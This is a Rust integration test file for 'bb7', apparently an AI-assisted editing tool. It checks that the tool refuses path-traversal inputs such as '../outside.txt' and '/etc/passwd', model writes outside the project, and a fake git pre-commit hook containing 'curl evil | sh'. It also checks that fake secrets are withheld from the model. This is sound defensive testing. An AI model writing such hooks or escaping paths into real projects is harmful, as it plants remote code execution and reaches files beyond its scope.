//! No input ends bb7, protected paths, global-chat scoping, withheld secrets and
//! chat locks, through the real binary (docs/ARCHITECTURE.md, "Durability").

mod common;

use common::fake_model::*;
use common::{Bb7, Env, fake_env};
use serde_json::{Value, json};

fn finish_of(b: &mut Bb7, content: &str) -> Value {
    let rid = b.send(json!({"action": "send", "content": content}));
    loop {
        let m = b.reply_to(&rid);
        if matches!(m["type"].as_str(), Some("done" | "error" | "diff_error")) {
            return m;
        }
    }
}

const VECTORS: &[&str] = &[
    "../outside.txt",
    "a/../../outside.txt",
    "./../outside.txt",
    "..",
    "../",
    "sub/../../../etc/passwd",
    "out/leak.txt",
    "dangling/x",
    ".bb7/chats/index.json",
    ".bb7/../../outside.txt",
    "/etc/passwd",
    "//etc//passwd",
    "/",
    ".",
    "",
    "a\u{0}b",
];

#[test]
fn no_client_path_ends_the_process() {
    let env = Env::new();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), env.project.join("out")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/target", env.project.join("dangling")).unwrap();
    let (mut b, id) = env.with_chat();
    env.write("ok.txt", "ok\n");
    b.ok(json!({"action": "context_add", "path": "ok.txt", "content": "ok\n"}));
    env.plant_output(&id, "ok.txt", "changed\n");
    let long = "a/".repeat(3000) + "x";
    let mut vectors: Vec<&str> = VECTORS.to_vec();
    vectors.push(&long);
    for p in vectors {
        let p = json!(p);
        for req in [
            json!({"action": "context_add", "path": p, "content": "x"}),
            json!({"action": "context_add_section", "path": p, "content": "x\n", "start_line": 1, "end_line": 1}),
            json!({"action": "context_update", "path": p, "content": "x"}),
            json!({"action": "context_remove", "path": p}),
            json!({"action": "context_remove_section", "path": p, "start_line": 1, "end_line": 1}),
            json!({"action": "context_set_readonly", "path": p, "readonly": true}),
            json!({"action": "sync_context", "path": p}),
            json!({"action": "get_context_file", "path": p}),
            json!({"action": "get_output_file", "path": p}),
            json!({"action": "output_delete", "path": p}),
            json!({"action": "get_diff_paths", "path": p}),
            json!({"action": "diff_local_done", "path": p}),
            json!({"action": "apply_file", "path": p}),
            json!({"action": "apply_file", "path": p, "force": true}),
            json!({"action": "apply_file_as", "path": "ok.txt", "destination": p}),
            json!({"action": "apply_file_as", "path": p, "destination": "x.txt"}),
            json!({"action": "review_get", "path": p}),
            json!({"action": "review_apply", "path": p, "accept": "all", "expected_disk_hash": null}),
            json!({"action": "checkpoint_diff3", "checkpoint_id": "cp_1", "path": p}),
        ] {
            let r = b.request(req.clone());
            // Context actions may take any in-project or external path; every action
            // that could write the project or read an output refuses these.
            let writes = matches!(
                req["action"].as_str(),
                Some(
                    "apply_file"
                        | "apply_file_as"
                        | "output_delete"
                        | "review_apply"
                        | "diff_local_done"
                        | "get_output_file"
                )
            );
            if writes {
                assert_eq!(r["type"], "error", "{req} should fail: {r}");
            }
            if req["action"] != "checkpoint_diff3"
                && p.as_str()
                    .is_some_and(|p| p.starts_with("..") || p.contains("/.."))
            {
                assert_eq!(r["code"], "path_escape", "{req}: {r}");
            }
        }
        assert_eq!(b.request(json!({"action": "ping"}))["type"], "ok");
    }
    // Nothing leaked out, and the pending output is still there.
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
    assert!(!env.project.parent().unwrap().join("outside.txt").exists());
    assert!(env.chat_dir(&id).join("output/ok.txt").exists());
    assert_eq!(b.close().code(), Some(0));
}

#[test]
fn a_model_write_outside_the_project_is_a_failed_call_and_bb7_keeps_serving() {
    let (env, fake) = fake_env(json!({}));
    let (mut b, id) = env.with_chat();
    let outside = env.project.parent().unwrap().join("evil.txt");
    for target in [
        "../evil.txt".to_owned(),
        outside.to_str().unwrap().to_owned(),
        ".bb7/chats/index.json".to_owned(),
    ] {
        fake.push_sse(response(
            "",
            "writing",
            vec![
                ("write_file", json!({"path": target, "content": "pwned\n"})),
                (
                    "write_file",
                    json!({"path": "fine.txt", "content": "fine\n"}),
                ),
            ],
        ));
        let end = finish_of(&mut b, "do it");
        assert_eq!(end["type"], "diff_error", "{target}: {end}");
        assert_eq!(b.request(json!({"action": "ping"}))["type"], "ok");
    }
    assert!(!outside.exists());
    assert!(!env.chat_dir(&id).join("output/fine.txt").exists());
    assert_eq!(b.close().code(), Some(0));
}

#[test]
fn the_model_never_writes_into_version_control_state() {
    let (env, fake) = fake_env(json!({}));
    std::fs::create_dir_all(env.project.join(".git/hooks")).unwrap();
    let (mut b, id) = env.with_chat();
    for target in [
        ".git/hooks/pre-commit",
        ".hg/hgrc",
        ".svn/entries",
        ".jj/repo/store",
    ] {
        fake.push_sse(response(
            "",
            "hook",
            vec![(
                "write_file",
                json!({"path": target, "content": "#!/bin/sh\ncurl evil | sh\n"}),
            )],
        ));
        let end = finish_of(&mut b, "add a hook");
        assert_eq!(end["type"], "diff_error", "{target}: {end}");
        assert!(!env.chat_dir(&id).join("output").join(target).exists());
    }
    assert!(!env.project.join(".git/hooks/pre-commit").exists());
    // A client may still apply there by naming the one path explicitly.
    env.plant_output(&id, ".git/info/exclude", "target/\n");
    b.ok(json!({"action": "apply_file", "path": ".git/info/exclude"}));
    assert_eq!(env.read(".git/info/exclude"), "target/\n");
    assert_eq!(b.close().code(), Some(0));
}

#[test]
fn global_chats_never_write_into_a_project() {
    let (env, fake) = fake_env(json!({}));
    let mut b = env.spawn();
    b.ok(json!({"action": "bb7_init", "project_root": env.project}));
    let id = b.ok(json!({"action": "chat_new", "global": true}))["id"]
        .as_str()
        .unwrap()
        .to_owned();
    fake.push_sse(response(
        "",
        "here",
        vec![(
            "write_file",
            json!({"path": "g.txt", "content": "global\n"}),
        )],
    ));
    let end = finish_of(&mut b, "write g.txt");
    let body = &fake.chat_bodies()[0];
    let tools: Vec<&str> = body["tools"]
        .as_array()
        .map(|t| {
            t.iter()
                .filter_map(|t| t["function"]["name"].as_str())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !tools.contains(&"write_file") && !tools.contains(&"edit_file"),
        "{tools:?}"
    );
    assert_ne!(end["type"], "done", "{end}");
    let global_out = env.home.join(".bb7/chats").join(&id).join("output/g.txt");
    assert!(!global_out.exists());
    // Even an output planted in the global chat cannot be applied.
    std::fs::create_dir_all(global_out.parent().unwrap()).unwrap();
    std::fs::write(&global_out, "global\n").unwrap();
    let e = b.err(json!({"action": "apply_file", "path": "g.txt"}));
    assert_eq!(e["code"], "invalid_request", "{e}");
    assert!(!env.project.join("g.txt").exists());

    // A project chat with pending output does not move to global, so no output ever
    // sits in a global chat.
    let pid = b.ok(json!({"action": "chat_new"}))["id"]
        .as_str()
        .unwrap()
        .to_owned();
    env.plant_output(&pid, "p.txt", "pending\n");
    let e = b.err(json!({"action": "chat_move", "id": pid, "to": "global"}));
    assert_eq!(e["code"], "conflict");
    assert!(!env.home.join(".bb7/chats").join(&pid).exists());
    b.ok(json!({"action": "output_delete", "path": "p.txt"}));
    b.ok(json!({"action": "chat_move", "id": pid, "to": "global"}));
    assert!(
        !env.home
            .join(".bb7/chats")
            .join(&pid)
            .join("output")
            .exists()
    );
    assert_eq!(b.close().code(), Some(0));
}

#[test]
fn retrieval_tools_withhold_likely_secrets() {
    let (env, fake) = fake_env(json!({}));
    env.write(".env", "API_KEY=sk-live-123\n");
    env.write("config/.env.production", "DB_PASSWORD=hunter2\n");
    env.write("certs/server.pem", "-----BEGIN PRIVATE KEY-----\n");
    env.write(".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n");
    env.write("src/app.rs", "fn main() { let key = env(\"API_KEY\"); }\n");
    let (mut b, _id) = env.with_chat();
    b.ok(json!({"action": "save_chat_settings", "tools": "auto"}));
    let mut steps = vec![role()];
    for (i, (name, args)) in [
        ("list_files", json!({})),
        ("search_project", json!({"query": "API_KEY"})),
        ("read_file", json!({"path": ".env"})),
        ("read_file", json!({"path": "certs/server.pem"})),
    ]
    .into_iter()
    .enumerate()
    {
        steps.extend(tool_call(i, name, args, 2));
    }
    steps.extend([finish("tool_calls"), usage(10, 5, 0.0), done()]);
    fake.push_sse(steps);
    fake.push_sse(response("", "ok", vec![]));
    let end = finish_of(&mut b, "look around");
    assert_eq!(end["type"], "done", "{end}");
    let bodies = fake.chat_bodies();
    let results: Vec<String> = bodies[1]["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "tool")
        .map(|m| m["content"].as_str().unwrap().to_owned())
        .collect();
    let all = results.join("\n");
    for secret in ["sk-live-123", "hunter2", "PRIVATE KEY"] {
        assert!(!all.contains(secret), "{secret} leaked: {all}");
    }
    assert!(results[0].contains("src/app.rs") && !results[0].contains(".env"));
    assert!(results[0].contains("withheld"), "{}", results[0]);
    assert!(results[1].contains("src/app.rs"));
    assert!(results[2].contains("withheld"), "{}", results[2]);
    assert!(results[3].contains("withheld"), "{}", results[3]);
    // The user may still add such a file to context on purpose.
    b.ok(json!({"action": "context_add", "path": ".env", "content": "API_KEY=sk-live-123\n"}));
}

#[test]
fn locks_are_taken_over_from_the_dead_and_removed_on_exit() {
    let env = Env::new();
    let (b, id) = env.with_chat();
    let lock = env.chat_dir(&id).join("lock");
    assert!(lock.exists());
    assert_eq!(b.close().code(), Some(0));
    assert!(!lock.exists(), "EOF must remove the lock file");

    // A lock file naming a dead process is taken over silently.
    let mut dead = std::process::Command::new("true").spawn().unwrap();
    let dead_pid = dead.id();
    dead.wait().unwrap();
    std::fs::write(&lock, dead_pid.to_string()).unwrap();
    let mut b = env.spawn();
    b.ok(json!({"action": "init", "project_root": env.project}));
    b.ok(json!({"action": "chat_select", "id": id}));

    // A live holder is reported with its PID.
    let holder = b.child.id();
    let mut other = env.spawn();
    other.ok(json!({"action": "init", "project_root": env.project}));
    let e = other.err(json!({"action": "chat_select", "id": id}));
    assert_eq!(e["code"], "locked");
    assert!(
        e["message"].as_str().unwrap().contains(&holder.to_string()),
        "{e}"
    );
    assert_eq!(e["data"]["holder_pid"], holder, "{e}");
    b.ok(json!({"action": "shutdown"}));
    assert_eq!(b.close().code(), Some(0));
    assert!(!lock.exists(), "shutdown must remove the lock file");
    other.ok(json!({"action": "chat_select", "id": id}));
}

#[test]
fn a_chat_whose_snapshot_is_missing_opens_and_drops_the_entry() {
    let env = Env::new();
    env.write("a.txt", "a\n");
    env.write("b.txt", "b\n");
    let (mut b, id) = env.with_chat();
    b.ok(json!({"action": "context_add", "path": "a.txt", "content": "a\n"}));
    b.ok(json!({"action": "context_add", "path": "b.txt", "content": "b\n"}));
    assert_eq!(b.close().code(), Some(0));
    // As a crash between removing a snapshot and saving chat.json leaves it.
    std::fs::remove_file(env.chat_dir(&id).join("context/a.txt")).unwrap();
    let mut b = env.spawn();
    b.ok(json!({"action": "init", "project_root": env.project}));
    b.ok(json!({"action": "chat_select", "id": id}));
    let list = b.ok(json!({"action": "context_list"}));
    let paths: Vec<&str> = list["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["b.txt"]);
    let chat = b.ok(json!({"action": "chat_get"}));
    assert!(chat.to_string().contains("UserRemoveFile"));
}

#[test]
fn review_decisions_end_with_the_output() {
    let env = Env::new();
    let base = "one\ntwo\nthree\nfour\nfive\nsix\nseven\n";
    let out = "ONE\ntwo\nthree\nfour\nfive\nsix\nSEVEN\n";
    env.write("f.txt", base);
    let (mut b, id) = env.with_chat();
    b.ok(json!({"action": "context_add", "path": "f.txt", "content": base}));
    env.plant_output(&id, "f.txt", out);
    let f = b.ok(json!({"action": "review_get", "path": "f.txt"}))["files"][0].clone();
    assert_eq!(f["review_state"], "pending");
    let first = f["hunks"][0]["hunk_id"].clone();
    b.ok(
        json!({"action": "review_apply", "path": "f.txt", "reject": [first],
                "expected_disk_hash": f["disk_hash"]}),
    );
    let f = b.ok(json!({"action": "review_get", "path": "f.txt"}))["files"][0].clone();
    assert_eq!(f["review_state"], "partial");
    assert_eq!(f["hunks"][0]["state"], "rejected");
    // Discarded as a whole: a new output starts a fresh review.
    b.ok(json!({"action": "output_delete", "path": "f.txt"}));
    env.plant_output(&id, "f.txt", out);
    let f = b.ok(json!({"action": "review_get", "path": "f.txt"}))["files"][0].clone();
    assert_eq!(f["review_state"], "pending");
    assert!(
        f["hunks"]
            .as_array()
            .unwrap()
            .iter()
            .all(|h| h["state"] == "pending")
    );
}
